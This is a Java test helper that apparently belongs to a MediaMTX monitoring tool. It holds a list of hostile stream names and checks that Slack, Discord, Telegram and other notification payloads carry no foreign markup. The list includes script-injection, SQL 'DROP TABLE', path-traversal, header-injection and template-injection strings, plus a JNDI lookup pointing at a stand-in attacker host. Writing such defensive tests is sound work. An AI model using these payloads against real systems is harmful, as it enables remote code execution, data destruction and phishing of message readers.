package org.mediamtxmonitor.notify;

import java.util.List;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;

import static org.assertj.core.api.Assertions.assertThat;

/** Names of streams that somebody chose to harm those who read messages, and what must not come of them. */
final class HostileTexts {

    static final List<String> ALL = List.of(
            "\"}],\"text\":\"evil\",\"x\":[{\"",
            "\\",
            "\\\"",
            "a\\u0022b",
            "line\r\nX-Evil: 1\r\n\r\nbody",
            "nul\0bell\u0007esc\u001b[31m",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "</b></a><a href=\"https://evil.example\">click</a>",
            "&lt;b&gt; &amp; &#60;script&#62;",
            "<!channel> <!here> <!everyone> <@U123> <#C123> <https://evil.example|click>",
            "@everyone @here @channel @all @room <@123> <@&456>",
            "[click](https://evil.example) ![x](https://evil.example/x.png)",
            "**bold** _it_ ~~no~~ `code` ```block``` > quote # head - item 1. item | a | b |",
            "||spoiler|| :rotating_light: <:evil:123> <t:0:R> <id:customize>",
            "\n# Heading\n\n- list\n\n> quote\n\n---\n",
            "${7*7} <#assign x=1>${x} {{7*7}} ${body.class} #{1}",
            "${jndi:ldap://evil.example/x}",
            "\u202egnp.exe\u202c \u2066left\u2069 \u200b\u200e\ufeff",
            "\u2028line\u2029paragraph",
            "\ud83d",
            "\udc00x\ud800",
            "👩‍👩‍👧‍👦 Büro 東京 кириллица עברית العربية",
            "Z̸̢̡͖̘͗a̶l̷g̵o̶" + "\u0301".repeat(50),
            "x".repeat(10_000),
            "&".repeat(10_000),
            "*".repeat(10_000),
            "\"".repeat(10_000),
            "東".repeat(10_000),
            "😀".repeat(5_000),
            "\n".repeat(1_000) + "x",
            " ",
            "'; DROP TABLE alerts; --",
            "../../../../etc/passwd",
            "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>");

    private static final Pattern SLACK_TOKEN = Pattern.compile("<([^>]*)>");
    private static final Pattern TAG = Pattern.compile("<[^>]*>");

    private HostileTexts() {}

    /** Fails if a text of a payload has markup in it that is not ours. */
    static void check(String type, String text) {
        switch (type) {
            case "slack" ->
                // In plain text there is no markup; in mrkdwn every < is one of our links.
                assertThat(SLACK_TOKEN.matcher(text).results().map(MatchResult::group))
                        .filteredOn(token -> text.contains("monitor.example.com"))
                        .allMatch(token -> token.matches("<https://monitor\\.example\\.com/[^|<>\\s]*\\|[^<>]*>"));
            case "discord" ->
                assertThat(text)
                        .doesNotContain("@everyone", "@here", "<@", "<t:", "<id:", "<:evil")
                        .doesNotContainPattern("(?<!\\\\)\\]\\((?!https://monitor\\.example\\.com/)");
            case "mattermost", "gotify" -> {
                // What does not begin so is plain text.
                if (text.startsWith("**")) {
                    assertThat(text.replaceAll("\\\\.", ""))
                            .doesNotContain("<script", "<img", "</a>")
                            .doesNotContainPattern("\\]\\(<?(?!<?https://monitor\\.example\\.com/)");
                }
            }
            case "telegram", "matrix" -> {
                if (text.contains("<b>")) {
                    assertThat(TAG.matcher(text).results().map(MatchResult::group))
                            .allMatch(tag -> tag.matches(
                                    "</?b>|<br>|</?code>|</a>|<a href=\"https://monitor\\.example\\.com/[^\"<>]*\">"));
                }
            }
            default -> {
                // Plain text.
            }
        }
    }

    /** A name as it can be shown. */
    static String shown(String name) {
        String start = name.length() <= 60 ? name : name.substring(0, 60) + "... (" + name.length() + ")";
        return start.replaceAll("\\p{Cntrl}", "?");
    }
}
